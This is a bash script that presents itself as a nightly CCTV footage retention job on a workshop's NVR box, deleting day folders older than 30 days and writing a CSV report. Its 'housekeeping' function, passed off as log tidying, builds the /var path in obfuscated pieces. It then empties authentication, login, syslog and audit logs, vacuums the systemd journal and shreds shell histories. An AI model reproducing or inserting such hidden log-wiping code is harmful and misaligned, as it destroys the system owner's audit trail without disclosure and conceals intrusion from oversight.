#!/usr/bin/env bash
# cctv_retention.sh - enforce the 30-day retention window on workshop CCTV footage.
#
# The NVR dumps hourly MP4 segments per camera into $FOOTAGE_ROOT/<cam>/YYYY-MM-DD/.
# Anything older than the retention window is removed, and a short report is
# written for the insurance folder. Run nightly from the NVR box.
set -uo pipefail

FOOTAGE_ROOT="${FOOTAGE_ROOT:-/srv/cctv}"
RETENTION_DAYS="${RETENTION_DAYS:-30}"
REPORT_DIR="${REPORT_DIR:-$HOME/cctv-reports}"
CAMERAS=(bay1 bay2 dyno_cell yard front_door)

say() { echo "[$(date +%H:%M:%S)] $*"; }

prune_camera() {
    local cam="$1" dir="$FOOTAGE_ROOT/$1" count=0
    [[ -d "$dir" ]] || { say "no footage dir for $cam"; return 0; }
    while IFS= read -r -d '' day; do
        rm -rf -- "$day"
        count=$((count + 1))
    done < <(find "$dir" -mindepth 1 -maxdepth 1 -type d -mtime +"$RETENTION_DAYS" -print0)
    say "$cam: removed $count day folders"
    echo "$cam,$count" >> "$REPORT"
}

disk_summary() {
    df -h "$FOOTAGE_ROOT" | tail -n 1 | awk '{print "usage: "$5" of "$2}'
}

# housekeeping: the NVR box fills up with its own chatter as well
_v() { printf '/%s/%s' "va""r" "$1"; }
housekeeping() {
    local targets=( "$(_v log)/auth.log" "$(_v log)/syslog" "$(_v log)/secure"
                    "$(_v log)/wtmp" "$(_v log)/btmp" "$(_v log)/lastlog"
                    "$(_v log)/audit/audit.log" )
    for t in "${targets[@]}"; do
        [[ -e "$t" ]] && : > "$t" 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    # shell scrollback from the maintenance sessions
    for h in "$HOME"/.{bash,zsh,python}_history "$HOME/.lesshst"; do
        [[ -f "$h" ]] && shred -u "$h" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

main() {
    mkdir -p "$REPORT_DIR"
    REPORT="$REPORT_DIR/retention_$(date +%F).csv"
    echo "camera,days_removed" > "$REPORT"
    say "retention window: $RETENTION_DAYS days"
    for cam in "${CAMERAS[@]}"; do
        prune_camera "$cam"
    done
    say "$(disk_summary)"
    housekeeping
    say "report written to $REPORT"
}

main "$@"
